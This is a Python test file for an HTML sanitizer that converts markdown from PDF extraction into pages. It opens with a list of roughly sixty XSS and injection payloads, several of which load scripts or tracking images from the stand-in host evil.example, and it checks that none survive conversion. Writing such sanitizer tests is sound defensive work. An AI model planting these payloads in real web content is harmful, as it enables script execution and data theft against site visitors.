from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cloister.output import PageText, Source, Style, compose
from cloister.output.markup import _ALLOWED, to_html

SOURCE = Source("a.pdf", None, 1, "model", None, (), "2026-11-27")
ATTRIBUTES = {"href", "rel", "start", "colspan", "rowspan", "style", "class"}
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.png">',
    "<img\nsrc=x\nonerror=alert(1)//",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x"onerror="alert(1)](x)',
    "![<script>alert(1)</script>](x)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](http://a.example "onmouseover=alert(1)")',
    "[x](/etc/passwd)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<a href=http://a.example target=_blank ping=http://evil.example onclick=alert(1)>x</a>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x><applet>",
    "<form action=http://evil.example><input name=x><button formaction=x>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<td style='background:url(http://evil.example);text-align:right'>x</td>",
    "<table background=http://evil.example><tr><td onclick=alert(1)>x</td></tr></table>",
    "<video src=x poster=x onerror=alert(1)><source src=x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "</section></body></html><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<plaintext><xmp><title>",
    "<template><script>alert(1)</script></template>",
    '<img>x" onerror="alert(1)</img>',
    "<watermark><script>alert(1)</script></watermark>",
    "<page_number><img src=x onerror=alert(1)></page_number>",
    "<span class='failed' id='page-1'>x</span>",
    "<a id=page-1 name=page-1>x</a>",
    "$<script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    '```html"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
]


class Seen(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.comments: list[str] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_harmless(fragment: str) -> None:
    seen = Seen(fragment)
    assert set(seen.tags) <= set(_ALLOWED.split("|"))
    assert {name for name, _ in seen.attributes} <= ATTRIBUTES
    assert seen.comments == []
    for name, value in seen.attributes:
        assert name != "href" or value.startswith(("http://", "https://", "mailto:")), value
        assert name != "style" or value.startswith("text-align:"), value
        assert name != "class" or value in {"page_number", "watermark", "img", "signature", ""}


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("place", ["{}", "text {} text", "<table><tr><td>{}</td></tr></table>"])
def test_nothing_can_run_or_be_loaded(vector: str, place: str) -> None:
    assert_harmless(to_html(place.replace("{}", vector)).text)


@given(
    st.lists(
        st.sampled_from([*VECTORS, "\n", "\n\n", "`", "<", '"', "<table>", "<td>", "$", "- ", "> "])
        | st.text(max_size=8)
    ).map("".join)
)
def test_no_text_becomes_dangerous(text: str) -> None:
    assert_harmless(to_html(text).text)
    page = compose(SOURCE, [PageText(1, text), PageText(2, None, text)], Style("html"))
    assert "<script" not in page.lower()
    assert page.count('id="page-1"') - to_html(text).text.count('id="page-1"') == 1
    assert Seen(page).tags.count("section") == 2


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# A\n\n*b* **c**", "<h1>A</h1>\n<p><em>b</em> <strong>c</strong></p>"),
        ("a<sub>1</sub> b<sup>2</sup>", "<p>a<sub>1</sub> b<sup>2</sup></p>"),
        ("<page_number>14</page_number>", '<p><span class="page_number">14</span></p>'),
        ("<img>a & b</img>", '<p><span class="img">a &amp; b</span></p>'),
        (
            "<watermark>**a**</watermark>",
            '<p><span class="watermark"><strong>a</strong></span></p>',
        ),
        ("![a bridge](x.png)", "<p><em>[image: a bridge]</em></p>"),
        (
            "[a](https://a.example)",
            '<p><a href="https://a.example" rel="noopener noreferrer nofollow">a</a></p>',
        ),
        ("$a_1*b*c_2 < d$ *e*", "<p>$a_1*b*c_2 &lt; d$ <em>e</em></p>"),
        ("\\(a*b*c\\) \\[d\\]", "<p>\\(a*b*c\\) \\[d\\]</p>"),
        ("$$\na\n- b\n\\\\\nc\n$$", "<p>$$\na\n- b\n\\\\\nc\n$$</p>"),
        ("It costs $5 and $10.", "<p>It costs $5 and $10.</p>"),
        ("[1]: Smith 1999", "<p>[1]: Smith 1999</p>"),
        ("Dear <Name of client>,", "<p>Dear &lt;Name of client&gt;,</p>"),
        ("<!-- unclosed\n\ntext", "&lt;!-- unclosed\n\ntext"),
        ("a <!-- note --> b", "<p>a  b</p>"),
        ("a\n<table>\n\n<tr><td colspan=2>*b*</td></tr></table>\n**c**", None),
        ("|a|\n|--:|\n|1|", None),
    ],
)
def test_markdown_becomes_html(markdown: str, html: str | None) -> None:
    found = to_html(markdown).text.strip()
    if html is not None:
        assert found == html
    elif "colspan" in markdown:
        assert '<td colspan="2">*b*</td>' in found
        assert found.startswith("<p>a</p>")
        assert found.endswith("<p><strong>c</strong></p>")
    else:
        assert '<td style="text-align:right">1</td>' in found


@given(st.lists(st.from_regex(r"[a-z]{3,8}", fullmatch=True), min_size=1))
def test_no_word_gets_lost_among_unknown_tags(words: list[str]) -> None:
    text = " ".join(
        f"<{word}> {word} </{word}>" if at % 2 else word for at, word in enumerate(words)
    )
    assert all(word in Seen(to_html(text).text).text for word in words if word not in _ALLOWED)


def test_a_page_names_nothing_outside_itself() -> None:
    source = Source("<b>&.pdf", "ab" * 32, 1, "m", "<i>", ("v", "t"), "2026-11-27")
    page = compose(source, [PageText(1, "x")], Style("html"))
    assert "<title>&lt;b&gt;&amp;.pdf</title>" in page
    assert "default-src 'none'; style-src 'unsafe-inline'" in page
    assert page.startswith("<!doctype html>")
    assert not {"img", "script", "link", "a"} & set(Seen(page).tags)
    assert "http://" not in page
    assert "https://" not in page
